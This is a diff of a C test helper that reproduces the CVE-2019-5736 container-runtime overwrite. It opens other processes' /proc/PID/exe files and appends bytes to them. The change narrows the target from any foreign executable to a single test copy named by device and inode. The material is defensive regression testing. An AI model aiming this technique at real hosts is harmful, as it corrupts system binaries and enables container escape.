@@ -1,6 +1,7 @@
-// spoil-exe SECONDS: looks at every process it can see, keeps their programs' files open and tries
-// to append a byte to each that is not its own, also after the process has gone (CVE-2019-5736).
-// Prints "spoiled N". The test gives it a copy of the runtime to spoil, never the real one.
+// spoil-exe SECONDS DEVICE INODE: looks at every process it can see, keeps those programs' files
+// open that are the one file named by its numbers (a copy of the runtime that the test made, never
+// a file of the machine), and tries to append a byte to it, also after the process has gone
+// (CVE-2019-5736). Prints "spoiled N of M": M files were seen.
 #define _GNU_SOURCE
 #include <ctype.h>
 #include <dirent.h>
@@ -15,18 +16,11 @@
 
 static int kept[KEPT_MAX];
 static int kept_count;
-static struct stat own, shell;
+static unsigned long long device, inode;
 
-static int foreign(int fd) {
+static int is_wanted(int fd) {
   struct stat file;
-  if (fstat(fd, &file) != 0) return 0;
-  if (file.st_dev == own.st_dev && file.st_ino == own.st_ino) return 0;
-  if (file.st_dev == shell.st_dev && file.st_ino == shell.st_ino) return 0;
-  for (int i = 0; i < kept_count; i++) {
-    struct stat other;
-    if (fstat(kept[i], &other) == 0 && other.st_dev == file.st_dev && other.st_ino == file.st_ino) return 0;
-  }
-  return 1;
+  return fstat(fd, &file) == 0 && file.st_dev == device && file.st_ino == inode;
 }
 
 static void collect(void) {
@@ -38,7 +32,7 @@ static void collect(void) {
     snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
     int fd = open(path, O_RDONLY | O_CLOEXEC);
     if (fd < 0) continue;
-    if (kept_count < KEPT_MAX && foreign(fd)) kept[kept_count++] = fd;
+    if (kept_count < KEPT_MAX && is_wanted(fd)) kept[kept_count++] = fd;
     else close(fd);
   }
   if (proc) closedir(proc);
@@ -58,10 +52,11 @@ static int spoil(void) {
 }
 
 int main(int argc, char **argv) {
-  time_t end = time(0) + (argc > 1 ? atoi(argv[1]) : 1);
+  if (argc != 4) return 2;
+  time_t end = time(0) + atoi(argv[1]);
   int spoiled = 0;
-  stat("/proc/self/exe", &own);
-  stat("/bin/busybox", &shell);
+  device = strtoull(argv[2], 0, 10);
+  inode = strtoull(argv[3], 0, 10);
   puts("looking");
   fflush(stdout);
   while (time(0) < end) {
